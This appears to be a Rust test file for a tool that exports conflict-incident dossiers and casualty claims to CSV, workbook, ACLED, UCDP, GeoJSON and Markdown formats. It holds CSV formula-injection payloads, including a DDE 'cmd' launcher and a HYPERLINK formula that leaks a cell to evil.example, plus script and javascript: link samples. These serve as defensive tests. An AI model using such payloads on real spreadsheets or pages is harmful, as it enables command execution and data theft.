//! Exports: the columns of the codebooks, safe with hostile pages, read back whole by other people's readers, never a sum.

use std::collections::BTreeSet;
use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use recoupe_export::rows::{self, Cell, Codes, Export, File, Format, Kind, Refused, TypeCodes, defuse, undefuse};
use recoupe_wire::{Dossier, from_json};

fn story() -> Dossier {
    from_json(include_str!("story.json")).expect("the fixture is a dossier")
}

/// The same with one figure for each toll, as `--figures lowest` would put it.
fn with_figures() -> Dossier {
    let mut d = story();
    d.made.figures = Some("lowest".into());
    for t in d.incidents.iter_mut().flat_map(|x| x.tolls.iter_mut()) {
        let first = t.by.iter().filter(|f| !f.denied).min_by_key(|f| f.min);
        t.figure = first.map(|f| recoupe_wire::ChosenFigure {
            rule: "lowest".into(),
            value: f.min.or(f.max),
            claims: f.claims.clone(),
            ..Default::default()
        });
    }
    d
}

fn codes() -> Codes {
    let code = |plover: &str, acled: &str, ucdp: &[u8]| TypeCodes {
        plover: Some(plover.into()),
        cameo: None,
        acled: Some(acled.into()),
        ucdp: ucdp.to_vec(),
    };
    Codes::from([
        ("airstrike".into(), code("ASSAULT-aerial", "Explosions/Remote violence: Air/drone strike", &[1, 3])),
        ("attack".into(), code("ASSAULT", "Violence against civilians: Attack", &[1, 2, 3])),
        ("armed_clash".into(), code("ASSAULT-firearms", "Battles: Armed clash", &[1, 2])),
    ])
}

fn with() -> Export {
    Export { lang: "fr".into(), codes: codes(), ..Default::default() }
}

fn files(d: &Dossier, format: Format) -> Vec<File> {
    rows::export(d, format, &with()).unwrap_or_else(|e| panic!("{}: {e}", format.name()))
}

fn text(f: &File) -> &str {
    std::str::from_utf8(&f.bytes).expect("UTF-8")
}

/// A CSV file as another reader sees it.
fn read(f: &File) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(f.bytes.as_slice());
    let head = r.headers().expect("a head").iter().map(str::to_owned).collect();
    let rows = r.records().map(|x| x.expect("as many fields as columns").iter().map(str::to_owned).collect());
    (head, rows.collect())
}

/// Every string of a dossier, ids and days apart, put behind a payload.
fn poisoned(payload: &str) -> Dossier {
    let mut v: serde_json::Value = serde_json::to_value(with_figures()).expect("JSON");
    fn walk(v: &mut serde_json::Value, key: &str, payload: &str) {
        match v {
            serde_json::Value::Array(a) => a.iter_mut().for_each(|x| walk(x, key, payload)),
            serde_json::Value::Object(o) => o.iter_mut().for_each(|(k, x)| walk(x, k, payload)),
            serde_json::Value::String(s) => {
                let keeps = ["format", "id", "page", "pages", "claims", "incident", "from", "to", "type", "certainty"];
                let more = ["precision", "kind", "unit", "country", "figures", "field", "state", "origin", "published"];
                if !keeps.contains(&key) && !more.contains(&key) {
                    *s = format!("{payload}{s}");
                }
            }
            _ => {}
        }
    }
    walk(&mut v, "", payload);
    from_json(&v.to_string()).expect("still a dossier")
}

const PAYLOADS: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "\u{feff} =1+1",
    "x; =cmd|' /C calc'!A0",
    "\",=1+1,\"",
];

/// What a spreadsheet program would take for a formula.
fn formula(cell: &str) -> bool {
    let shown =
        cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}'));
    shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && cell.parse::<f64>().is_err()
}

#[test]
fn no_cell_is_a_formula() {
    for p in PAYLOADS {
        let d = poisoned(p);
        for format in [Format::Csv, Format::Hxl, Format::Acled, Format::Ucdp, Format::Plover] {
            for f in files(&d, format).iter().filter(|f| f.name.ends_with(".csv")) {
                for cell in read(f).1.iter().flatten() {
                    assert!(!formula(cell), "{}: {cell}", f.name);
                    for part in cell.split(';') {
                        assert!(!formula(part), "{} after a semicolon: {cell}", f.name);
                    }
                    assert!(!cell.contains(['\t', '\r', '\n']), "{}: {cell:?}", f.name);
                }
            }
        }
        let book = &files(&d, Format::Xlsx)[0];
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&book.bytes)).expect("a workbook");
        for name in book.sheet_names() {
            assert!(book.worksheet_formula(&name).expect("a sheet").is_empty(), "{name} has a formula");
            for cell in book.worksheet_range(&name).expect("a sheet").rows().flatten() {
                if let Data::String(s) = cell {
                    assert!(!formula(s), "{name}: {s}");
                }
            }
        }
    }
}

#[test]
fn csv_and_workbook_hold_the_same_values() {
    let d = story();
    let tables = rows::tables(&d, "index.html");
    let csvs = files(&d, Format::Csv);
    let book = &files(&d, Format::Xlsx)[0];
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&book.bytes)).expect("a workbook");
    assert_eq!(book.sheet_names(), tables.iter().map(|t| t.name.as_str()).collect::<Vec<_>>());
    for t in &tables {
        let f = csvs.iter().find(|f| f.name == format!("csv/{}.csv", t.name)).expect("a file for each table");
        let (head, rows) = read(f);
        assert_eq!(head, t.columns.iter().map(|c| c.name).collect::<Vec<_>>());
        assert_eq!(rows.len(), t.rows.len(), "{}", t.name);
        let sheet = book.worksheet_range(&t.name).expect("a sheet for each table");
        for (r, row) in t.rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                let want = cell.plain().unwrap_or_default().into_owned();
                assert_eq!(undefuse(&rows[r][c]), want, "{} {r} {}", t.name, head[c]);
                let shown = sheet.get_value((r as u32 + 1, c as u32)).cloned().unwrap_or_default();
                let same = match (cell, &shown) {
                    (Cell::Empty, Data::Empty) => true,
                    (Cell::Int(n), Data::Float(x)) => *n as f64 == *x,
                    (Cell::Real(n), Data::Float(x)) => (n - x).abs() < 1e-4,
                    (Cell::Flag(a), Data::Bool(b)) => a == b,
                    (Cell::Text(s), Data::String(x)) => undefuse(x) == *s,
                    (Cell::Text(s), Data::DateTime(x)) => {
                        let (y, m, day, ..) = x.to_ymd_hms_milli();
                        t.columns[c].kind == Kind::Day && format!("{y:04}-{m:02}-{day:02}") == *s
                    }
                    _ => false,
                };
                assert!(same, "{} {r} {}: {cell:?} became {shown:?}", t.name, head[c]);
            }
        }
    }
}

#[test]
fn every_row_has_its_citation_and_every_column_one_name() {
    let mut d = story();
    // one incident of the fixture has neither claims nor pages, which no reading gives
    d.incidents.retain(|x| !x.claims.is_empty());
    for t in rows::tables(&d, "index.html") {
        let names: BTreeSet<&str> = t.columns.iter().map(|c| c.name).collect();
        assert_eq!(names.len(), t.columns.len(), "{} has a column twice", t.name);
        assert!(t.columns.iter().all(|c| !c.about.is_empty()));
        assert!(t.rows.iter().all(|r| r.len() == t.columns.len()), "{}", t.name);
        if t.name == "about" {
            continue;
        }
        for r in 0..t.rows.len() {
            for must in ["page", "source", "outlet", "anchor", "link", "dossier"] {
                assert!(t.cell(r, must).is_some_and(|c| *c != Cell::Empty), "{} {r} has no {must}", t.name);
            }
        }
    }
}

/// Every voice keeps its own row; nothing in a file is the sum of others.
#[test]
fn figures_stay_voice_by_voice() {
    let d = story();
    let tables = rows::tables(&d, "index.html");
    let tolls = tables.iter().find(|t| t.name == "tolls").expect("tolls");
    let figures = d.incidents.iter().flat_map(|x| x.tolls.iter().chain(&x.cumulative)).map(|t| t.by.len());
    assert_eq!(tolls.rows.len(), figures.sum::<usize>());
    let said: BTreeSet<i64> = d
        .incidents
        .iter()
        .flat_map(|x| x.tolls.iter().chain(&x.cumulative))
        .flat_map(|t| t.by.iter().flat_map(|f| [f.min, f.max]).flatten())
        .collect();
    for (i, c) in tolls.columns.iter().enumerate() {
        if ["min", "max", "low", "high"].contains(&c.name) {
            for row in &tolls.rows {
                if let Cell::Int(n) = row[i] {
                    assert!(said.contains(&n), "nobody says {n}");
                }
            }
        }
        if c.name.starts_with("rule") {
            assert!(tolls.rows.iter().all(|r| r[i] == Cell::Empty), "no figure without a rule");
        }
    }
}

/// ACLED export since March 2023 (codebook and API): 31 columns in this order.
const ACLED: [&str; 31] = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "civilian_targeting",
    "iso",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "tags",
    "timestamp",
];

/// UCDP GED Codebook 25.1: 49 columns in this order.
const UCDP: [&str; 49] = [
    "id",
    "relid",
    "year",
    "active_year",
    "code_status",
    "type_of_violence",
    "conflict_dset_id",
    "conflict_new_id",
    "conflict_name",
    "dyad_dset_id",
    "dyad_new_id",
    "dyad_name",
    "side_a_dset_id",
    "side_a_new_id",
    "side_a",
    "side_b_dset_id",
    "side_b_new_id",
    "side_b",
    "number_of_sources",
    "source_article",
    "source_office",
    "source_date",
    "source_headline",
    "source_original",
    "where_prec",
    "where_coordinates",
    "where_description",
    "adm_1",
    "adm_2",
    "latitude",
    "longitude",
    "geom_wkt",
    "priogrid_gid",
    "country",
    "country_id",
    "region",
    "event_clarity",
    "date_prec",
    "date_start",
    "date_end",
    "deaths_a",
    "deaths_b",
    "deaths_civilians",
    "deaths_unknown",
    "best",
    "high",
    "low",
    "gwnoa",
    "gwnob",
];

#[test]
fn columns_are_those_of_the_codebooks() {
    let d = with_figures();
    assert_eq!(read(&files(&d, Format::Acled)[0]).0, ACLED);
    assert_eq!(read(&files(&d, Format::Ucdp)[0]).0, UCDP);
}

fn value(f: &(Vec<String>, Vec<Vec<String>>), row: usize, column: &str) -> String {
    let i = f.0.iter().position(|c| c == column).unwrap_or_else(|| panic!("no {column}"));
    f.1[row][i].clone()
}

#[test]
fn a_row_of_acled() {
    let f = read(&files(&with_figures(), Format::Acled)[0]);
    let v = |c| value(&f, 0, c);
    assert_eq!(v("event_id_cnty"), "SYR-i1");
    assert_eq!((v("event_date"), v("year"), v("time_precision")), ("2020-02-20".into(), "2020".into(), "1".into()));
    assert_eq!(v("event_type"), "Explosions/Remote violence");
    assert_eq!(v("sub_event_type"), "Air/drone strike");
    assert_eq!(v("disorder_type"), "Political violence");
    assert_eq!((v("actor1"), v("inter1")), ("Syria: armed forces".into(), "State forces".into()));
    assert_eq!((v("actor2"), v("inter2")), ("Turkey: armed forces".into(), "External/Other forces".into()));
    assert_eq!(v("interaction"), "State forces-External/Other forces");
    assert_eq!((v("iso"), v("region"), v("country")), ("760".into(), "Middle East".into(), "Syria".into()));
    assert_eq!((v("location"), v("geo_precision")), ("Al-Nayrab".into(), "1".into()));
    assert!(v("notes").contains("deux soldats turcs") && v("notes").contains("index.html#i1"), "{}", v("notes"));
    assert!(v("tags").contains("rule=lowest") && v("tags").contains("standing=contested"), "{}", v("tags"));
}

#[test]
fn one_number_needs_a_rule_by_name() {
    for format in [Format::Acled, Format::Ucdp] {
        assert_eq!(rows::export(&story(), format, &with()), Err(Refused::NoRule(format)));
        let mut d = story();
        d.made.figures = Some("airwars".into());
        assert_eq!(
            rows::export(&d, format, &with()),
            Err(Refused::RuleGivesNone(format, "airwars".into())),
            "a range is no number"
        );
        assert!(
            files(&with_figures(), format)
                .iter()
                .any(|f| f.name.ends_with(".about.csv") && text(f).contains("rule lowest"))
        );
        assert!(format.rule().is_some(), "and the command has one to name");
    }
}

#[test]
fn what_a_format_leaves_out_is_told() {
    let d = with_figures();
    for (format, main) in [(Format::Acled, "acled"), (Format::Ucdp, "ucdp-ged")] {
        let all = files(&d, format);
        let left = all.iter().find(|f| f.name == format!("{main}.left-out.csv")).expect("a list");
        assert_eq!(read(&all[0]).1.len() + read(left).1.len(), d.incidents.len());
        assert!(read(left).1.iter().all(|r| !r[2].is_empty()), "each with why");
    }
}

#[test]
fn geojson_is_rfc_7946() {
    let d = story();
    for f in files(&d, Format::Geojson) {
        let raw: serde_json::Value = serde_json::from_slice(&f.bytes).expect("JSON");
        assert!(raw.get("crs").is_none(), "RFC 7946 has no crs");
        let g: geojson::FeatureCollection =
            text(&f).parse::<geojson::GeoJson>().expect("GeoJSON").try_into().expect("features");
        let bbox = g.bbox.clone().expect("a box");
        for x in &g.features {
            let p = x.properties.as_ref().expect("properties");
            assert!(p.contains_key("precision") && p.contains_key("citations"));
            let Some(geometry) = &x.geometry else { continue };
            let geojson::GeometryValue::Point { coordinates } = &geometry.value else { panic!("a point") };
            let (lon, lat) = (coordinates[0], coordinates[1]);
            assert!((35.0..43.0).contains(&lon) && (32.0..38.0).contains(&lat), "longitude first: {lon} {lat}");
            assert!(bbox[0] <= lon && lon <= bbox[2] && bbox[1] <= lat && lat <= bbox[3]);
        }
    }
    let incidents = &files(&d, Format::Geojson)[0];
    let raw: serde_json::Value = serde_json::from_slice(&incidents.bytes).expect("JSON");
    let all = raw["features"].as_array().expect("features");
    assert_eq!(all.len(), d.incidents.len(), "those without a place too");
    for (f, x) in all.iter().zip(&d.incidents) {
        let known = x.place.as_ref().is_some_and(|p| p.lat.is_some() && p.precision != "country");
        assert_eq!(f["geometry"].is_null(), !known, "{}", x.id);
    }
}

#[test]
fn plover_records_have_what_the_manual_asks_for() {
    let d = story();
    let all = files(&d, Format::Plover);
    let lines: Vec<serde_json::Value> =
        text(&all[0]).lines().map(|l| serde_json::from_str(l).expect("one record a line")).collect();
    assert!(!lines.is_empty());
    for r in &lines {
        for must in ["id", "date", "actor", "event", "text", "cite_info", "link"] {
            assert!(!r[must].is_null(), "{must} is missing in {r}");
        }
        let claim = d.claims.iter().find(|c| c.id == r["id"]).expect("a claim");
        assert_eq!(r["text"], claim.quote.as_str());
        assert_eq!(r["recoupe"]["certainty"], claim.certainty.as_str());
        assert!(matches!(claim.certainty.as_str(), "stated" | "hedged"), "what is denied is no event");
    }
}

#[test]
fn claims_are_no_verdicts() {
    let d = story();
    let f = &files(&d, Format::Claims)[0];
    assert!(!text(f).contains("ClaimReview") && !text(f).contains("reviewRating"));
    let v: serde_json::Value = serde_json::from_slice(&f.bytes).expect("JSON");
    let nodes = v["@graph"].as_array().expect("a graph");
    let ids: BTreeSet<&str> = nodes.iter().filter_map(|n| n["@id"].as_str()).collect();
    assert_eq!(ids.len(), nodes.len(), "every node once");
    let claims: Vec<_> = nodes.iter().filter(|n| n["@type"] == "Claim").collect();
    assert_eq!(claims.len(), d.claims.iter().filter(|c| !c.rejected).count());
    for c in claims {
        assert!(c["text"].is_string() && c["author"]["name"].is_string());
        for to in [&c["appearance"]["@id"], &c["isPartOf"]["@id"]] {
            assert!(ids.contains(to.as_str().expect("a reference")), "{to} leads nowhere");
        }
        for to in c["recoupe:contradicts"].as_array().into_iter().flatten() {
            assert!(ids.contains(to.as_str().expect("an id")));
        }
    }
}

#[test]
fn hxl_tags_stand_in_the_second_row() {
    for f in files(&story(), Format::Hxl) {
        let (head, rows) = read(&f);
        let tags = &rows[0];
        assert_eq!(tags.len(), head.len());
        for t in tags {
            let ok =
                |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_');
            let mut parts = t.strip_prefix('#').unwrap_or_else(|| panic!("{}: {t} is no tag", f.name)).split('+');
            assert!(parts.all(ok), "{}: {t}", f.name);
        }
        let once: BTreeSet<&String> = tags.iter().collect();
        assert_eq!(once.len(), tags.len(), "{}: a tag twice", f.name);
    }
}

#[test]
fn a_brief_is_markdown_and_pages_make_none_of_it() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let evil = "# h\n<script>alert(1)</script> ![x](http://evil.example/i.png) [y](javascript:alert(1)) http://evil.example `c` *b* | ~~s~~ ";
    for d in [with_figures(), poisoned(evil)] {
        for lang in ["fr", "en"] {
            let made = rows::export(&d, Format::Md, &Export { lang: lang.into(), ..with() }).expect("a brief");
            let md = text(&made[0]);
            assert!(md.ends_with('\n') && !md.contains("\n\n\n"));
            let mut headings = 0;
            for e in Parser::new_ext(md, Options::all()) {
                match e {
                    Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the brief: {h}"),
                    Event::Start(Tag::Image { .. }) => panic!("a picture"),
                    Event::Start(Tag::Link { dest_url, .. }) => {
                        let own =
                            dest_url.starts_with("index.html#") || dest_url.starts_with("https://gazette.example/");
                        assert!(own, "a page made the link {dest_url}");
                    }
                    Event::Start(Tag::Heading { .. }) => headings += 1,
                    _ => {}
                }
            }
            assert!((5..20).contains(&headings), "{headings} headings");
        }
    }
    let fr = files(&story(), Format::Md);
    for must in ["Ce qui se contredit", "au moins 4", "SOHR", "deux soldats turcs", "index.html#c"] {
        assert!(text(&fr[0]).contains(must), "{must} is missing");
    }
}

#[test]
fn the_same_dossier_gives_the_same_bytes() {
    let first: Vec<Vec<File>> = Format::ALL.iter().map(|f| files(&with_figures(), *f)).collect();
    // Files of a ZIP have times with a step of two seconds.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    for (f, before) in Format::ALL.iter().zip(first) {
        assert!(files(&with_figures(), *f) == before, "{}", f.name());
    }
}

#[test]
fn an_empty_dossier_and_dangling_ids_do_no_harm() {
    let mut odd = with_figures();
    odd.claims.truncate(1);
    odd.pages.truncate(1);
    for x in &mut odd.incidents {
        x.time =
            Some(recoupe_wire::Time { from: Some("2020-13-45".into()), to: Some("zz".into()), ..Default::default() });
        if let Some(p) = &mut x.place {
            (p.lat, p.lon) = (Some(f64::NAN), Some(999.0));
        }
    }
    let empty = Dossier { made: with_figures().made, ..Default::default() };
    for d in [empty, odd] {
        for f in Format::ALL {
            assert!(!files(&d, f).is_empty(), "{}", f.name());
        }
    }
}

#[test]
fn the_digest_is_that_of_the_json() {
    use sha2::{Digest, Sha256};
    let mut d = story();
    d.pages.iter_mut().for_each(|p| p.view = None);
    let json = recoupe_wire::to_json(&d, recoupe_wire::Style::Pretty);
    let hex: String = Sha256::digest(json.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(rows::digest(&story()), format!("sha256:{hex}"));
}

#[test]
fn every_column_is_documented() {
    let doc = include_str!("../../../docs/exports.md");
    for t in rows::tables(&story(), "index.html") {
        assert!(doc.contains(&format!("`{}`", t.name)), "docs/exports.md does not tell of the table {}", t.name);
        for c in &t.columns {
            assert!(doc.contains(&format!("`{}`", c.name)), "docs/exports.md does not tell of {}.{}", t.name, c.name);
        }
    }
    for c in ACLED.iter().chain(&UCDP) {
        assert!(doc.contains(&format!("`{c}`")), "docs/exports.md does not tell of {c}");
    }
    for f in Format::ALL {
        assert!(doc.contains(&format!("`{}`", f.name())), "docs/exports.md does not tell of {}", f.name());
    }
}

#[test]
fn what_is_defused_is_read_back() {
    for p in PAYLOADS {
        assert_eq!(undefuse(&defuse(p)), p);
    }
}
